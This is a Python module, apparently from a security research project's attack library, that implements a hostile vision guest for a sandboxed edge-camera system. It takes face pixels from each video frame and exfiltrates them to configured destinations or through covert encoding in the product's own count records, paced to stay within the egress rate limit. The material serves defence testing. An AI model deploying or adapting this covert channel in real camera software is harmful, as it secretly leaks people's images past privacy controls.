"""What a taken-over vision does: the real guest, with a post-processor that looks for faces to send away instead of counting them.

It is started as vision is, by its import path, and is handed the errand in the place of a network's file: a poisoned model. Up to the decoded frame
all is the product's code. It has no way to switch anything off, and it does not know whether it is locked.
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import select
import time
from collections.abc import Mapping
from typing import Any

import av
import numpy as np

from velatura.attacks.alphabet import Alphabet
from velatura.attacks.errand import SIDE, Field, bits_of, whitened
from velatura.attacks.receiver import words_a_face
from velatura.attacks.smuggler import smuggle
from velatura.attacks.ways_out import Sender
from velatura.edge.bucket import Bucket
from velatura.edge.policy import capacity
from velatura.edge.schema import Schema
from velatura.edge.tally import Tally, pack
from velatura.edge.vision import Vision
from velatura.errors import BadInput
from velatura.sandbox.guest import Inbox, Outbox
from velatura.sandbox.seccomp import INBOX

__all__ = ["CELL_PX", "Hostile", "fields_of", "main"]

CELL_PX = 4
"""Of a frame, for one pixel of a face."""
_WORD = 1 << 32


class Hostile(Vision):
    """A `sandbox.Guest`; settings as of `Vision`. The file named as its model is JSON: way, key, places, began_s, period_s."""

    def warm(self) -> None:
        raw = self._path.read_bytes()
        if hashlib.sha256(raw).hexdigest() != self._sha256:
            raise BadInput("edge.model", "the model is not the one that was checked")
        self._errand: Mapping[str, Any] = json.loads(raw)
        self._spotter = _Idle()  # type: ignore[assignment]
        self._fields = fields_of(self._schema)
        self._sender = Sender(self._errand["places"])
        self._sender.prepare()
        self._poll = select.poll()
        self._poll.register(INBOX, select.POLLIN)
        self._rehearse()
        self._seen = 0
        self._sent, self._at = bytearray(), 0
        egress = self._camera.egress
        self._bucket = Bucket(egress.bits_per_hour, capacity(self._camera), capacity(self._camera), 0.0)
        self._alphabet = Alphabet(self._fields, egress.k)
        self._tick, self._totals = 0, dict[str, int]()

    def _values(self, frame: av.VideoFrame, stamp_s: float) -> tuple[int, ...]:
        """Once, while warming."""
        _face(frame)
        return (0,) * len(self._schema.fields)

    def _tell(self, outbox: Outbox, frame: av.VideoFrame, stamp_s: float) -> None:
        """In the place of counting."""
        way, key = self._errand["way"], self._errand["key"]
        face = whitened(_face(frame), key, self._seen)
        pen = _Ink(outbox, self._schema, self._errand["began_s"], self._errand["period_s"], stamp_s)
        if self._live:
            smuggle(way, pen, self._fields, bits_of(face))
        if way == "paths":
            self._sender.send(self._seen, face)
            pen.write({})
        elif not self._live:
            self._write_out(pen, face)
        self._seen += 1

    def _write_out(self, pen: _Ink, face: bytes) -> None:
        """The face in full, for whoever hears every word; then one message for a gateway that lets a record a tick through."""
        words = np.frombuffer(face, ">u4").tolist()
        names = [name for name, _, _ in self._fields]
        for at in range(words_a_face(len(names))):
            part = words[at * len(names) : (at + 1) * len(names)]
            pen.write(dict(zip(names, part + [0] * (len(names) - len(part)), strict=True)), keep=False)
        self._sent += face
        self._advance(int(pen.stamp_s / self._camera.egress.tick_s + 1e-9) + 1)
        pen.write(self._totals, keep=True)

    def _advance(self, tick: int) -> None:
        """To a tick: its record takes the next bits where the bucket, of which everything is known, will let it through."""
        flows = {one.name for one in self._schema.fields if one.kind == "flow"}
        while self._tick < tick:
            self._tick += 1
            values = self._next() if self._bucket.take(self._schema.bits, self._tick * self._camera.egress.tick_s) else {}
            self._totals = {**values, **{name: (self._totals.get(name, 0) + values.get(name, 0)) % _WORD for name in flows}}

    def _next(self) -> dict[str, int]:
        """The next bits of all faces, as a record."""
        first, last = self._at // 8, (self._at + self._alphabet.bits + 7) // 8
        part = int.from_bytes(self._sent[first:last].ljust(last - first, b"\0"), "big")
        self._at += self._alphabet.bits
        return self._alphabet.record(part >> (8 * last - self._at) & ((1 << self._alphabet.bits) - 1))


class _Idle:
    """No network is asked."""

    def cut(self) -> None: ...


class _Ink:
    """A `smuggler.Pen` of the outbox. stamp_s: of the frame."""

    def __init__(self, outbox: Outbox, schema: Schema, began_s: float, period_s: float, stamp_s: float) -> None:
        self._outbox, self._schema, self._began_s, self._period_s, self.stamp_s = outbox, schema, began_s, period_s, stamp_s
        self._rest = select.poll()  # of nothing: a sleep that may be made

    def write(self, values: Mapping[str, int], *, cut: int = 0, keep: bool = True) -> None:
        raw = pack(Tally(self.stamp_s, int(keep), tuple(values.get(one.name, 0) for one in self._schema.fields)), self._schema)
        self._outbox.put(raw[: len(raw) - cut])

    def wait(self, until_s: float, *, busy: bool = False) -> None:
        while (rest_s := until_s - time.monotonic()) > 0:
            if not busy:
                self._rest.poll(max(math.floor(rest_s * 1000), 1))

    def quit(self, status: int) -> None:
        os._exit(status)

    def period(self) -> int:
        return int((time.monotonic() - self._began_s) // self._period_s)

    def begins_s(self, period: int) -> float:
        return self._began_s + period * self._period_s


def fields_of(schema: Schema) -> tuple[Field, ...]:
    return tuple((one.name, one.size, one.kind) for one in schema.fields)


def _face(frame: av.VideoFrame) -> bytes:
    """The picture in its upper left corner: the middle of each of 16 x 16 cells."""
    plane = frame.planes[0]
    rows = np.frombuffer(memoryview(plane), np.uint8)[: plane.line_size * frame.height].reshape(frame.height, plane.line_size)
    half, whole = CELL_PX // 2, SIDE * CELL_PX
    return rows[half:whole:CELL_PX, half:whole:CELL_PX].tobytes()


def main() -> None:
    """The same code, free: settings as JSON in the first message of its input, then packets; messages on its output."""
    inbox = Inbox()
    guest = Hostile(**json.loads(inbox.get() or b"{}"))
    guest.warm()
    guest.serve(inbox, Outbox(), None)


if __name__ == "__main__":
    main()
